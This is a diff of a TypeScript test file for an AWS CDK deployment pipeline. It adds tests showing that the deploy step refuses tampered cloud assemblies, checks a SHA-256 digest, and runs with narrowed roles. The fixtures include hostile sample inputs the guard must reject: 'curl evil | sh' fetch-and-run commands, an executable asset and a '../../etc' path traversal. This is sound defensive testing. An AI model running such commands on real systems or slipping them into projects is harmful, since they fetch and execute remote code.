@@ -129,7 +129,7 @@ describe('DeliveryPipeline with infrastructure: InfrastructureUpdate.cdkApp()', 
       .flatMap((st: any) => ([] as unknown[]).concat(st.Resource).map((r) => flatten(stack, r)))
       // The pipeline's own action roles (CodePipeline assumes them for its actions).
       .filter((arn) => !ownRoles.includes(arn));
-    expect(assumed.length).toBe(5);
+    expect(assumed.length).toBe(4);
     for (const arn of assumed) {
       expect(arn).toMatch(/^arn:\$\{AWS::Partition\}:iam::123456789012:role\/cdk-hnb659fds-(deploy|file-publishing|image-publishing|lookup)-role-123456789012-eu-west-1$/);
     }
@@ -144,47 +144,111 @@ describe('DeliveryPipeline with infrastructure: InfrastructureUpdate.cdkApp()', 
     expect(deploy).toHaveLength(1);
     expect(deploy[0].InputArtifacts).toEqual([{ Name: 'CloudAssembly' }]);
     const spec = buildSpecOf(template, update.deployStep);
-    expect(spec.phases.install.commands).toEqual(['npm install --global --ignore-scripts --no-audit --no-fund "aws-cdk@2"']);
-    expect(spec.phases.build.commands[1])
-      .toBe('cdk deploy --app "$CODEBUILD_SRC_DIR" \'Site\' \'State\' --require-approval never --ci --progress events');
+    expect(spec.phases.install.commands).toEqual(['cd "$(mktemp -d)" && npm install --global --ignore-scripts --no-audit --no-fund "aws-cdk@2"']);
+    const commands = spec.phases.build.commands as string[];
+    // Deployed from an empty directory (no cdk.json the repository's code could have written), after the guard.
+    expect(commands.slice(3, 4)).toEqual(['cd "$(mktemp -d)"']);
+    expect(commands[4]).toContain('CHECKED_ASSEMBLY_SHA256');
+    expect(commands.slice(5)).toEqual([
+      'cdk deploy --app "$CODEBUILD_SRC_DIR" \'Site\' \'State\' --require-approval never --ci --progress events']);
+    expect(commands[0]).toMatch(/^ASSEMBLY_SHA256="\$\(node -e /);
+    expect(JSON.parse(spec.env.variables.EXPECTED_STACKS)).toEqual([
+      { path: 'Site', stackName: 'Site', environment: 'aws://123456789012/eu-west-1' },
+      { path: 'State', stackName: 'State', environment: 'aws://123456789012/eu-west-1' },
+    ]);
   });
 
   test('the deploy refuses assets that cdk deploy would build by running commands (executable or Docker assets)', () => {
     const spec = buildSpecOf(template, update.deployStep);
     const refuse = spec.phases.build.commands[0] as string;
-    expect(refuse).toMatch(/^cd "\$CODEBUILD_SRC_DIR" && node -e /);
     expect(refuse).toContain('.assets.json');
     expect(refuse).toContain('a.source.executable');
     expect(refuse).toContain('a.source.directory');
   });
 
-  test('the deploy\'s asset check passes a plain assembly and fails one with an executable or a Docker asset, nested assemblies included', () => {
-    const refuse = buildSpecOf(template, update.deployStep).phases.build.commands[0] as string;
-    const run = (files: Record<string, object>) => {
+  test('the assembly guard passes a plain assembly and refuses what would run code, other stacks and CLI configuration, nested assemblies included', () => {
+    const spec = buildSpecOf(template, update.deployStep);
+    // As CodeBuild runs them: the first failing command fails the build.
+    const guard = 'set -e\n' + (spec.phases.build.commands as string[]).slice(0, 2).join('\n') + '\nprintf "%s" "$ASSEMBLY_SHA256"';
+    const expected = spec.env.variables.EXPECTED_STACKS;
+    const run = (files: Record<string, object | string>) => {
       const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'assembly-'));
       for (const [name, content] of Object.entries(files)) {
         fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
-        fs.writeFileSync(path.join(dir, name), JSON.stringify(content));
+        fs.writeFileSync(path.join(dir, name), typeof content === 'string' ? content : JSON.stringify(content));
       }
       try {
-        execFileSync('bash', ['-c', refuse], { env: { ...process.env, CODEBUILD_SRC_DIR: dir }, stdio: 'pipe' });
-        return 'passed';
+        return execFileSync('bash', ['-c', guard], { env: { ...process.env, CODEBUILD_SRC_DIR: dir, EXPECTED_STACKS: expected }, stdio: 'pipe' }).toString();
       } catch (e: any) {
         return String(e.stderr);
       } finally {
         fs.rmSync(dir, { recursive: true, force: true });
       }
     };
+    const stackArtifact = (name: string, stackName = name) => ({
+      type: 'aws:cloudformation:stack', environment: 'aws://123456789012/eu-west-1', displayName: name,
+      properties: { templateFile: `${name}.template.json`, stackName },
+    });
+    const assetManifest = (file: string) => ({ type: 'cdk:asset-manifest', properties: { file } });
+    const manifest = (extra: Record<string, object> = {}) => ({
+      artifacts: { Site: stackArtifact('Site'), State: stackArtifact('State'), SiteAssets: assetManifest('Site.assets.json'), ...extra },
+    });
     const zip = { files: { a1: { source: { path: 'asset.a1', packaging: 'zip' }, destinations: {} } } };
-    expect(run({ 'Site.assets.json': zip, 'manifest.json': {} })).toBe('passed');
-    expect(run({ 'Site.assets.json': { files: { x: { source: { executable: ['sh', '-c', 'curl evil'] } } } } }))
-      .toMatch(/refuses .*Site.assets.json file x/);
-    expect(run({ 'Site.assets.json': zip, 'assembly-Prod/Prod-Web.assets.json': { dockerImages: { img: { source: { directory: 'asset.img' } } } } }))
-      .toMatch(/assembly-Prod\/Prod-Web.assets.json image img/);
+    const plain = { 'manifest.json': manifest(), 'Site.assets.json': zip, 'Site.template.json': {}, 'State.template.json': {} };
+    const digest = run(plain);
+    expect(digest).toMatch(/^[0-9a-f]{64}$/);
+    expect(run(plain)).toBe(digest);
+    // Any change of any file changes the digest the deploy compares with the security check's.
+    expect(run({ ...plain, 'Site.template.json': { Resources: {} } })).toMatch(/^[0-9a-f]{64}$/);
+    expect(run({ ...plain, 'Site.template.json': { Resources: {} } })).not.toBe(digest);
+    expect(run({ ...plain, 'Site.assets.json': { files: { x: { source: { executable: ['sh', '-c', 'curl evil'] } } } } }))
+      .toMatch(/refused .*Site.assets.json file x/);
+    // An asset manifest of any name, found through manifest.json, and a nested assembly of any name.
+    expect(run({ ...plain, 'manifest.json': manifest({ Odd: assetManifest('odd.json') }), 'odd.json': { files: { y: { source: { executable: ['sh'] } } } } }))
+      .toMatch(/odd.json file y/);
+    expect(run({
+      ...plain,
+      'manifest.json': manifest({ Prod: { type: 'cdk:cloud-assembly', properties: { directoryName: 'nested', displayName: 'Prod' } } }),
+      'nested/manifest.json': { artifacts: { W: assetManifest('w.json') } },
+      'nested/w.json': { dockerImages: { img: { source: { directory: 'asset.img' } } } },
+    })).toMatch(/nested\/w.json image img/);
+    expect(run({ ...plain, 'cdk.json': { build: 'curl evil | sh' } })).toMatch(/CLI configuration cdk.json/);
+    expect(run({ ...plain, 'sub/cdk.context.json': {} })).toMatch(/CLI configuration sub\/cdk.context.json/);
+    expect(run({ ...plain, 'manifest.json': manifest({ Up: assetManifest('../../etc/x.json') }) })).toMatch(/a path outside the assembly: ..\/..\/etc\/x.json/);
+    expect(run({ ...plain, 'manifest.json': manifest({ P: { type: 'cdk:plugin' } }) })).toMatch(/an artifact P of unknown type cdk:plugin/);
+    // A selected stack pointed at another stack of the account, or missing.
+    expect(run({ ...plain, 'manifest.json': { artifacts: { Site: stackArtifact('Site', 'SomeoneElses'), State: stackArtifact('State') } } }))
+      .toMatch(/stack Site is SomeoneElses in aws:\/\/123456789012\/eu-west-1, not Site/);
+    expect(run({ ...plain, 'manifest.json': { artifacts: { Site: stackArtifact('Site') } } })).toMatch(/no stack State/);
+    expect(run({ 'Site.template.json': {} })).toMatch(/no manifest.json/);
+  });
+
+  test('the deploy refuses an assembly other than the one the security check diffed', () => {
+    const spec = buildSpecOf(template, update.deployStep);
+    const compare = (spec.phases.build.commands as string[]).find((c) => c.includes('CHECKED_ASSEMBLY_SHA256'))!;
+    const run = (actual: string, checkedDigest: string) => {
+      try {
+        execFileSync('bash', ['-c', compare], { env: { ...process.env, ASSEMBLY_SHA256: actual, CHECKED_ASSEMBLY_SHA256: checkedDigest }, stdio: 'pipe' });
+        return 'deploys';
+      } catch (e: any) {
+        return String(e.stderr);
+      }
+    };
+    expect(run('a'.repeat(64), 'a'.repeat(64))).toBe('deploys');
+    expect(run('a'.repeat(64), 'b'.repeat(64))).toMatch(/not the one the security check diffed/);
+    expect(run('a'.repeat(64), '')).toMatch(/not the one/);
+    const deploy = stageOf(template, 'InfrastructureDeploy').Actions[0];
+    expect(JSON.parse(deploy.Configuration.EnvironmentVariables)).toContainEqual(
+      { name: 'CHECKED_ASSEMBLY_SHA256', type: 'PLAINTEXT', value: '#{InfrastructureCheck.ASSEMBLY_SHA256}' });
   });
 
   test('the security check sets BROADENING=false when cdk diff passes, and true with the cleaned, clipped diff when it fails', () => {
-    const commands = (buildSpecOf(template, update.securityCheckStep!).phases.build.commands as string[]).slice(0, 2);
+    const all = buildSpecOf(template, update.securityCheckStep!).phases.build.commands as string[];
+    // After the assembly guard, which ends in an empty directory: the CLI never runs where the assembly's files are.
+    expect(all.slice(2, 4)).toEqual(['echo "cloud assembly sha256 $ASSEMBLY_SHA256"', 'cd "$(mktemp -d)"']);
+    const at = all.findIndex((c) => c.startsWith('export LINK='));
+    expect(at).toBe(4);
+    const commands = all.slice(at, at + 2);
     const run = (exitCode: number, output: string) => {
       const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'check-'));
       // A stand-in for the CLI: prints what cdk diff would and exits with its code.
@@ -221,15 +285,16 @@ describe('DeliveryPipeline with infrastructure: InfrastructureUpdate.cdkApp()', 
     expect(check.InputArtifacts).toEqual([{ Name: 'CloudAssembly' }]);
     expect(check.Namespace).toBe('InfrastructureCheck');
     const spec = buildSpecOf(template, update.securityCheckStep!);
-    expect(spec.env['exported-variables']).toEqual(['BROADENING', 'SUMMARY', 'LINK']);
+    expect(spec.env['exported-variables']).toEqual(['BROADENING', 'SUMMARY', 'LINK', 'ASSEMBLY_SHA256']);
+    expect(spec.env.variables.EXPECTED_STACKS).toBe(buildSpecOf(template, update.deployStep).env.variables.EXPECTED_STACKS);
     const commands = commandsOf(spec);
     expect(commands).toContain('cdk diff --app "$CODEBUILD_SRC_DIR" --security-only --no-change-set --fail \'Site\' \'State\'');
     expect(commands).toContain('export BROADENING=false');
     expect(commands).toContain('export BROADENING=true');
   });
 
-  test('the security check may assume only the lookup and deploy roles', () => {
-    expect(assumableBy(stack, template, update.securityCheckStep!.role)).toEqual([role('deploy'), role('lookup')].sort());
+  test('the security check may assume only the (read-only) lookup role, never the deploy role', () => {
+    expect(assumableBy(stack, template, update.securityCheckStep!.role)).toEqual([role('lookup')]);
   });
 
   test('on broadening the pipeline stops at a manual approval whose message is the security diff; otherwise it skips the approval', () => {
@@ -311,7 +376,8 @@ describe('InfrastructureUpdate.cdkApp() options', () => {
   test('named stacks are deployed by construct path, found by stack name too', () => {
     expect(named.node.path).toBe('NamedId');
     const spec = buildSpecOf(t(unchecked.stack), unchecked.delivery.infrastructureUpdate!.deployStep);
-    expect(spec.phases.build.commands[1]).toContain('cdk deploy --app "$CODEBUILD_SRC_DIR" \'Unchecked\' \'NamedId\' --require-approval never');
+    expect((spec.phases.build.commands as string[]).filter((c) => c.startsWith('cdk deploy')))
+      .toEqual([expect.stringContaining('cdk deploy --app "$CODEBUILD_SRC_DIR" \'Unchecked\' \'NamedId\' --require-approval never')]);
   });
 
   test('contextLookups lets the synth assume the lookup role, and nothing else; cliVersion pins the CLI of check and deploy', () => {
